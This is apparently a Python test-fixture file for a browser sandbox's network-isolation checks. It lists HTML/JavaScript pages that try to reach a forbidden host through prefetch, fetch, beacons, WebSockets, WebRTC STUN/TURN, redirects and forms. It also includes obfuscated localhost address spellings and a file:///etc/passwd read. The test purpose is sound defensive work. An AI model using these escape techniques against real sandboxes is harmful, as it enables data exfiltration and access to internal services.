"""Pages of an allowed host that try to reach one that is not allowed. Contract §8."""

#: Name → body of the page. `{there}` is the forbidden server, `{here}` the allowed one; its `/to?` redirects.
ESCAPES = {
    "link prefetch": '<link rel=prefetch href="{there}/link-prefetch">',
    "preconnect": '<link rel=preconnect href="{there}">',
    "image": '<img src="{there}/image">',
    "redirected image": '<img src="{here}/to?{there}/redirected-image">',
    "iframe": '<iframe src="{there}/iframe"></iframe>',
    "fetch": "<script>fetch('{there}/fetch', {mode: 'no-cors'})</script>",
    "redirected fetch": "<script>fetch('{here}/to?{there}/refetch', {mode: 'no-cors'})</script>",
    "beacon": "<script>navigator.sendBeacon('{there}/beacon', 'x')</script>",
    "websocket": "<script>new WebSocket('{there}/socket'.replace('http', 'ws'))</script>",
    "event source": "<script>new EventSource('{there}/events')</script>",
    "worker": "<script>new Worker('{here}/worker.js')</script>",
    "service worker": "<script>navigator.serviceWorker.register('{here}/service.js')</script>",
    "popup": "<button id=go onclick=\"window.open('{there}/popup')\">Go</button>",
    "form": '<form id=f method=post action="{there}/form"></form><script>f.submit()</script>',
    "location": "<script>location = '{there}/location'</script>",
    "redirected location": "<script>location = '{here}/to?{there}/relocation'</script>",
    "meta refresh": '<meta http-equiv=refresh content="0;url={there}/refresh">',
    "style": "<style>@import '{there}/style';</style>",
    "object": '<object data="{there}/object"></object>',
    "download": '<a id=go download href="{there}/download">Go</a>',
    "script module": "<script type=module>import '{there}/module.js'</script>",
    "prefetch by header": "<p>The header asks for it.</p>",
    "stun": (
        "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:10.9.9.1:{port}'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>"
    ),
    "turn over tcp": (
        "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'turn:10.9.9.1:{port}?transport=tcp',"
        "username: 'a', credential: 'b'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>"
    ),
    **{
        f"address {spelling}": f"<img src='http://{spelling}:{{port}}/address'>"
        for spelling in (
            "127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "[::ffff:127.0.0.1]", "①②⑦.⓪.⓪.①",
            "0.0.0.0", "localhost.", "api.localhost", "LOCALHOST",
        )
    },
}  # fmt: skip
#: Fields that the allowed server adds to a page.
HEADERS = {"prefetch by header": ("Link", "<{there}/header>; rel=prefetch")}
WORKER = "fetch('{there}/worker', {mode: 'no-cors'})"
SERVICE = "self.addEventListener('install', () => fetch('{there}/service', {mode: 'no-cors'}))"
#: Pages that reach no network, and what must not come of them.
OTHERS = {
    "file": '<iframe src="file:///etc/passwd"></iframe><script>location = "file:///etc/passwd"</script>',
    "print": "<script>print()</script>",
    "permission": (
        "<script>navigator.geolocation.getCurrentPosition(() => document.title = 'leaked')</script>"
    ),
}
